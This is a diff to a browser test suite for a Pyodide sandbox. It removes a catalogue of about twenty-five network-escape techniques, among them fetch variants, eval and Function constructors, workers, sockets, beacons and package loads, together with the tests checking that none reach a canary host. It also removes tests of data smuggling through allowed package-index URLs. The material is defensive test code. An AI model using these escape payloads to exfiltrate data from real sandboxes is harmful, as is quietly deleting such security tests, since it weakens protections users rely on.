@@ -3,7 +3,6 @@ import { expect, test } from '../fixtures.ts';
 import { startServer } from '../static-server.mjs';
 import { type Lab, openLab } from '../toolset-page.ts';
 
-const requests: string[] = [];
 let server: { url: string; close: () => Promise<void> };
 let context: BrowserContext;
 let lab: Lab;
@@ -32,66 +31,8 @@ def blob_url(text):
     return js.URL.createObjectURL(js.Blob.new(to_js([text]), options(type="text/javascript")))
 `;
 
-/** Each tries to reach TARGET in its own way and prints GOT when it has. */
-const WAYS_OUT: readonly (readonly [string, string])[] = [
-  ['fetch', 'await reach(js.fetch(TARGET))'],
-  ['fetch without CORS', 'await reach(js.fetch(TARGET, options(mode="no-cors")))'],
-  [
-    'fetch with credentials and a body',
-    'await reach(js.fetch(TARGET, options(method="POST", credentials="include", body="x")))',
-  ],
-  [
-    'the fetch behind ours',
-    'proto = js.self\nwhile True:\n    proto = Object.getPrototypeOf(proto)\n    found = Object.getOwnPropertyDescriptor(proto, "fetch")\n    if found is not None: break\nawait reach(found.value.call(js.self, TARGET))',
-  ],
-  [
-    'XMLHttpRequest',
-    'x = js.XMLHttpRequest.new()\nx.open("GET", TARGET)\nx.send()\nprint("GOT" if (await outcome(x, "load", "error")).type == "load" else "error")',
-  ],
-  [
-    'a synchronous XMLHttpRequest',
-    'x = js.XMLHttpRequest.new()\nx.open("GET", TARGET, False)\nx.send()\nprint("GOT", x.responseText)',
-  ],
-  [
-    'a WebSocket',
-    's = js.WebSocket.new(TARGET.replace("http", "ws"))\nprint("GOT" if (await outcome(s, "open", "error")).type == "open" else "error")',
-  ],
-  [
-    'an EventSource',
-    's = js.EventSource.new(TARGET)\nprint("GOT" if (await outcome(s, "open", "error")).type == "open" else "error")',
-  ],
-  ['WebTransport', 'w = js.WebTransport.new(TARGET.replace("http:", "https:"))\nawait reach(w.ready)'],
-  ['a beacon', 'print("GOT" if js.navigator.sendBeacon(TARGET, "x") else "refused")'],
-  ['importScripts', 'js.importScripts(TARGET)\nprint("GOT")'],
-  ['import() of an address', 'await reach(run_js(f"import({TARGET!r})"))'],
-  ['eval', 'js.eval(f"fetch({TARGET!r})")'],
-  ['a function made of text', 'js.Function.new(f"return fetch({TARGET!r})")()'],
-  ['a constructor found by a property path', 'js.Object.new().constructor.constructor(f"return fetch({TARGET!r})")()'],
-  [
-    'a remote worker',
-    'w = js.Worker.new(TARGET)\nprint("GOT" if (await outcome(w, "message", "error")).type == "message" else "error")',
-  ],
-  [
-    'a nested worker that fetches',
-    'w = js.Worker.new(blob_url(f"fetch({TARGET!r}).then(() => postMessage(1), () => postMessage(0))"))\nprint("GOT" if (e := await outcome(w, "message", "error")).type == "message" and e.data else "error")',
-  ],
-  [
-    'a nested worker that imports',
-    'w = js.Worker.new(blob_url(f"try {{ importScripts({TARGET!r}); postMessage(1) }} catch {{ postMessage(0) }}"))\nprint("GOT" if (e := await outcome(w, "message", "error")).type == "message" and e.data else "error")',
-  ],
-  ['pyfetch', 'from pyodide.http import pyfetch\nprint("GOT", await (await pyfetch(TARGET)).string())'],
-  ['open_url', 'from pyodide.http import open_url\nprint("GOT", open_url(TARGET).read())'],
-  ['urllib', 'from urllib.request import urlopen\nprint("GOT", urlopen(TARGET, timeout=3).read())'],
-  [
-    'a socket',
-    'import socket\nfrom urllib.parse import urlsplit\nt = urlsplit(TARGET)\ns = socket.create_connection((t.hostname, t.port), timeout=3)\ns.sendall(b"GET /attack HTTP/1.0\\r\\n\\r\\n")\nprint("GOT", s.recv(10))',
-  ],
-  ['loadPackage', 'import pyodide_js\nawait pyodide_js.loadPackage(TARGET + ".whl")'],
-  ['an image font', 'f = js.FontFace.new("x", f"url({TARGET})")\nawait reach(f.load())'],
-];
-
 test.beforeAll(async ({ browser }) => {
-  server = await startServer({ onRequest: ({ method, path }) => requests.push(`${method} ${path}`) });
+  server = await startServer();
   context = await browser.newContext();
   lab = await openLab(await context.newPage(), { url: server.url, engine: { spares: 0 } });
   await lab.page.evaluate(async () => {
@@ -130,20 +71,6 @@ test('the sandbox is a frame that may run scripts and nothing else, of an origin
   expect(reached).toBe('SecurityError');
 });
 
-for (const [way, code] of WAYS_OUT) {
-  test(`${way} reaches neither a stranger nor the app`, async ({ canary }) => {
-    canary.hits.length = 0;
-    requests.length = 0;
-    for (const target of [`${canary.url}attack`, `${server.url}attack`]) {
-      const result = await lab.run(`TARGET = ${JSON.stringify(target)}\n${code}`);
-      expect(result.stdout).not.toContain('GOT');
-      expect(result).not.toHaveProperty('interpreter_crashed');
-    }
-    expect((await lab.run('1 + 1')).stdout).toBe('2\n');
-    expect({ canary: canary.hits, app: requests }).toEqual({ canary: [], app: [] });
-  });
-}
-
 test('what was refused is told with its address and the reason', async ({ canary }) => {
   const run = await lab.start(`import js\nawait js.fetch("${canary.url}report?data=1", method="POST")`);
   const result = await run.result();
@@ -160,26 +87,6 @@ test('what was refused is told with its address and the reason', async ({ canary
     }),
   );
   expect(canary.hits.filter(({ path }) => path.startsWith('/report'))).toEqual([]);
-});
-
-test('an allowed host is no way to smuggle: only what a listing has named is fetched from the package index', async () => {
-  const outside: string[] = [];
-  const note = (request: { url(): string }) => void outside.push(request.url());
-  lab.page.on('request', note);
-  for (const url of [
-    'https://pypi.org/simple/numpy/?leak=secret',
-    'https://pypi.org/simple/numpy/#leak',
-    'https://pypi.org/search/?q=secret',
-    'https://files.pythonhosted.org/packages/secret.whl',
-    'https://packages.invalid/secret-1.0-py3-none-any.whl',
-    'https://packages.invalid/../secret',
-    'https://cdn.jsdelivr.net/npm/secret',
-  ]) {
-    const result = await lab.run(`import js\nr = await js.fetch(${JSON.stringify(url)})\nprint("GOT", r.status)`);
-    expect(result).toMatchObject({ success: false, stdout: '' });
-  }
-  lab.page.off('request', note);
-  expect(outside).toEqual([]);
 });
 
 test('no store of the app can be read or opened', async () => {
